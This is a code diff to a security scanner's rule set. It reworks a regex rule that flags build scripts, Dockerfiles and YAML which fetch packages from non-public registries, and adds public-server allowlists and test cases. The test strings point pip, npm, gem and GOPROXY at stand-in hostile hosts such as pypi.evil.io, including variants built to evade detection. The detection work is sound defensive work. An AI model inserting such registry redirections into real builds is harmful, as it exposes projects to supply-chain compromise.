@@ -33,20 +33,37 @@ const GRADLE = [
   ...['github.com/', ...wholeHosts('maven.google.com')],
 ];
 
-/** Where an address of another server than the public ones begins, behind its scheme. */
-const OTHER_SERVER = otherThan([
-  ...['registry.npmjs.org/', 'registry.yarnpkg.com/', 'npm.pkg.github.com/', 'rubygems.org/'],
-  ...['registry.npmmirror.com/', 'pypi.org/', 'test.pypi.org/', 'download.pytorch.org/'],
-  ...['pypi.nvidia.com/', 'index.crates.io/', 'conda.anaconda.org/', 'repo.anaconda.com/'],
-  ...['proxy.golang.org', 'goproxy.io', 'goproxy.cn'].flatMap((host) =>
-    ['/', ',', '|'].map((end) => `${host}${end}`),
-  ),
-]);
+/** Public servers of packages, and this machine: a host, or where a path there begins. */
+const PUBLIC_SERVERS = [
+  ...['registry.npmjs.org', 'registry.yarnpkg.com', 'npm.pkg.github.com', 'rubygems.org'],
+  ...['registry.npmmirror.com', 'pypi.org', 'test.pypi.org', 'download.pytorch.org'],
+  ...['pypi.nvidia.com', 'data.pyg.org', 'storage.googleapis.com/jax-releases'],
+  ...['index.crates.io', 'conda.anaconda.org', 'repo.anaconda.com'],
+  ...['proxy.golang.org', 'goproxy.io', 'goproxy.cn', 'localhost', '127.0.0.1'],
+]
+  .map((server) => server.replaceAll('.', '\\.'))
+  .join('|');
 
 /** A host with all that ends it in an address in quotes. */
 function wholeHosts(host: string): string[] {
   return [`${host}/`, `${host}"`, `${host}'`];
 }
+
+/** The rest of a command up to an option of it, also on lines that continue it. */
+const TO_OPTION = raw`(?:[^\n|;&#]|[\\\x60^]\r?\n){0,300}\s["']?`;
+
+/** What stands between the name of a variable and its value in scripts, Dockerfiles and YAML. */
+const BECOMES = raw`["']?(?:\s*[?:]?=\s*|:\s*|\s+)(?:value:\s*)?(?:[>|&]\S{0,20}\s+)?["']?\s*`;
+
+/** The default of a variable of shells, which holds where nothing else is set. */
+const BY_DEFAULT = raw`(?:\$\{\w+:?[-=])?`;
+const ADDRESS = raw`${BY_DEFAULT}(?i:https?)://[^\s"',|;&)\x60]{1,300}`;
+
+/** A variable, or the beginning of an expression with blanks. */
+const VARIABLE = raw`\$\w+|\$\{\w+(?:[#%/][^}]*)?\}|\$\{\{[^{}]*\}\}|\{\{?[\w.]+\}\}?|<[^<>]*>|%\w+%|[$<{%][\w({]*$`;
+
+/** A match each of whose addresses is one of a public server, or of a host that is a variable. */
+const OF_PUBLIC_SERVERS = raw`^(?:(?:[^:]|:[^/]|:/[^/])*://(?:[^\s"'/@]*@)?${BY_DEFAULT}(?:(?i:${PUBLIC_SERVERS})|${VARIABLE})(?::(?:\d+|${VARIABLE}))?(?:[/}?][^\s"',|]*)?)+$`;
 
 const TLS_OFF = {
   severity: 'medium',
@@ -364,13 +381,14 @@ export const dependencyPatterns = [
     id: 'risk-build-server',
     description: 'Build takes packages from another server',
     regex: `(?:${[
-      raw`\bGOPROXY["']?(?:\s*[?:]?=\s*|:\s*|\s+)["']?(?:[^\s"'#]{0,200}[,|])?`,
-      raw`\b(?i:PIP_INDEX_URL|UV_(?:DEFAULT_INDEX|INDEX_URL|INDEX)|PDM_PYPI_URL|npm_config_(?:\w+[_:])?registry|YARN_(?:NPM_)?REGISTRY\w*|BUNDLE_MIRROR__\w+|CARGO_(?:REGISTRIES|SOURCE)_\w+_(?:INDEX|REGISTRY))["']?(?:\s*[?:]?=\s*|:\s*|\s+)["']?(?:sparse\+|\w+=)?`,
-      raw`\b(?:npm|pnpm|yarn|bun)\b[^\n|;&#]{0,200}\s(?:--registry|(?:set|-g)\s+(?:@[\w.-]+:)?(?:registry|npmRegistryServer))[= ]\s*["']?`,
-      raw`\b(?:pip3?|uv|poetry)\b[^\n|;&#]{0,200}\s(?:-i|--index-url|--default-index|--index|-f|--find-links|source\s+add(?:\s+--?[\w=-]+)*\s+[\w.-]+)[= ]\s*["']?(?:\w+=)?`,
-      raw`\b(?:gem\s+sources?|bundle\s+config|conda|mamba|micromamba)\b[^\n|;&#]{0,200}\s(?:-a|--add|-c|--channel|channels|mirror\.\S{1,200})[= ]\s*["']?`,
-    ].join('|')})https?://${OTHER_SERVER}`,
-    path: raw`${PIPELINES}|${SCRIPTS}|(?:^|/)(?:go\.env|\.env[^/]*)$`,
+      raw`\bGOPROXY${BECOMES}(?:[^\n"'#;&]{0,200}[,|]\s*)?`,
+      raw`\b(?i:PIP_(?:INDEX_URL|FIND_LINKS)|PIPENV_PYPI_MIRROR|UV_(?:DEFAULT_INDEX|INDEX_URL|INDEX)|PDM_PYPI_URL|npm_config_(?:\w+[_:])?registry|(?:COREPACK_NPM|BUN_CONFIG)_REGISTRY|YARN_(?:NPM_)?REGISTRY\w*|BUNDLE_MIRROR__\w+|CARGO_(?:REGISTRIES|SOURCE)_\w+_(?:INDEX|REGISTRY))${BECOMES}(?:(?:[a-z][\w.-]*=)?https?://\S{1,200}\s+){0,5}(?:sparse\+|[a-z][\w.-]*=)?`,
+      raw`\b(?:npm|npx|pnpm|yarn|bunx?)\b${TO_OPTION}(?:--registry|(?:set|-g)\s+["']?(?:@[\w.-]+:)?(?:registry|npmRegistryServer))["']?[= ]\s*["']?`,
+      raw`\b(?:pip3?|uv|poetry)\b${TO_OPTION}(?:-[if]|(?:--index-url|--default-index|--index|--find-links|set\s+["']?\w+\.(?:index-url|find-links)|source\s+add(?:\s+--?[\w=-]+)*\s+[\w.-]+)["']?[= ])\s*["']?(?:[\w.-]+=)?`,
+      raw`\b(?:gem|bundle\s+config|conda|mamba|micromamba)\b${TO_OPTION}(?:-a|--add|-s|--source|-c|--channel|channels|mirror\.\S{1,200})[= ]\s*["']?`,
+    ].join('|')})${ADDRESS}`,
+    target: 'hunk',
+    path: raw`${PIPELINES}|${SCRIPTS}|(?i)(?:^|/)(?:go\.env|\.env[^/]*|tox\.ini|[^/]+\.(?:ps1|bat|cmd))$`,
     keywords: [
       ...['goproxy', 'index_url', 'uv_default_index', 'uv_index', 'pdm_pypi_url', 'registry'],
       ...['bundle_mirror__', 'cargo_source_', 'cargo_registries_', 'pip', 'uv ', 'poetry', 'gem '],
@@ -380,14 +398,9 @@ export const dependencyPatterns = [
       TESTS,
       COMMENTS,
       {
-        description: 'an address that a variable holds',
+        description: 'public servers, this machine and variables',
         regexTarget: 'match',
-        regexes: [raw`://[$<{%]$`],
-      },
-      {
-        description: 'this machine, and no other server',
-        regexTarget: 'line',
-        regexes: [raw`^[^/]*https?://(?:localhost|127\.0\.0\.1)(?::\d+)?(?:[/"'\s][^:@]*)?$`],
+        regexes: [OF_PUBLIC_SERVERS],
       },
     ],
     severity: 'medium',
@@ -408,6 +421,35 @@ export const dependencyPatterns = [
         'RUN pip install -i https://pypi.evil.io/simple acme',
         'RUN gem sources --add https://gems.evil.io',
         'RUN conda install -c https://conda.evil.io numpy',
+        'RUN pip install \\\n  --index-url https://pypi.evil.io/simple \\\n  acme',
+        'RUN npm ci \\\n  --registry=https://npm.evil.io/',
+        'ENV GOPROXY=HTTPS://go.evil.io',
+        'ENV GOPROXY=" https://go.evil.io"',
+        'ENV GOPROXY="https://proxy.golang.org, https://go.evil.io"',
+        'ENV GOPROXY=https://go.evil.io,http://localhost:3000',
+        'ENV PIP_INDEX_URL=https://$X@pypi.evil.io/simple',
+        `ENV PIP_INDEX_URL=https://${'$'}{X}pypi.evil.io/simple`,
+        `ENV PIP_INDEX_URL=https://${'$'}{X:-pypi.evil.io}/simple`,
+        `ENV PIP_INDEX_URL=${'$'}{X:-https://pypi.evil.io/simple}`,
+        'RUN pip install -ihttps://pypi.evil.io/simple acme',
+        'RUN npm config set "registry" https://npm.evil.io/',
+        'RUN npm ci "--registry=https://npm.evil.io/"',
+        'RUN npm ci --registry=http://localhost:4873@npm.evil.io/',
+        'RUN npx --registry=https://npm.evil.io/ acme',
+        'RUN uv add --index acme-x=https://pypi.evil.io/simple acme',
+        'ENV UV_INDEX=acme-x=https://pypi.evil.io/simple',
+        'ENV UV_INDEX="https://pypi.org/simple https://pypi.evil.io/simple"',
+        'RUN gem install acme --source https://gems.evil.io',
+        'RUN gem install acme -s https://gems.evil.io',
+        'RUN pip config set global.index-url https://pypi.evil.io/simple',
+        'ENV PIP_FIND_LINKS=https://pypi.evil.io/',
+        'ENV COREPACK_NPM_REGISTRY=https://npm.evil.io',
+        'ENV BUN_CONFIG_REGISTRY=https://npm.evil.io',
+        'ENV PIPENV_PYPI_MIRROR=https://pypi.evil.io/simple',
+        '  GOPROXY:\n    value: https://go.evil.io',
+        '  - name: GOPROXY\n    value: "https://go.evil.io"',
+        '  GOPROXY: >-\n    https://go.evil.io',
+        '  GOPROXY: &a https://go.evil.io',
       ],
       noMatch: [
         'ENV GOPROXY=https://proxy.golang.org,direct',
@@ -417,6 +459,16 @@ export const dependencyPatterns = [
         'ENV PIP_INDEX_URL=https://pypi.org/simple',
         'RUN npm config set registry https://registry.npmjs.org/',
         'RUN npm ci --registry=http://localhost:4873/',
+        'RUN cd /app && npm ci --registry=http://localhost:4873/',
+        'RUN npm ci --registry=http://localhost:4873 acme@1.0',
+        'RUN npm ci \\\n  --registry=http://localhost:4873/',
+        'RUN npm ci\nRUN curl -o a https://files.acme.io/a',
+        `ENV PIP_INDEX_URL=https://${'$'}{HOST}:8080/simple.html`,
+        `ENV PIP_INDEX_URL=https://${'$'}{X:-pypi.org/simple}`,
+        'ENV PIP_INDEX_URL=https://$TOKEN@pypi.org/simple',
+        'ENV PIP_INDEX_URL=https://pypi.org/simple HOME_PAGE=https://acme.io',
+        'RUN pip install -f https://storage.googleapis.com/jax-releases/jax_releases.html jax',
+        'RUN pip install -f https://data.pyg.org/whl/torch-2.0.0.html pyg_lib',
         'RUN pip install -f https://download.pytorch.org/whl/torch_stable.html torch',
         'RUN conda install -c conda-forge numpy',
       ],
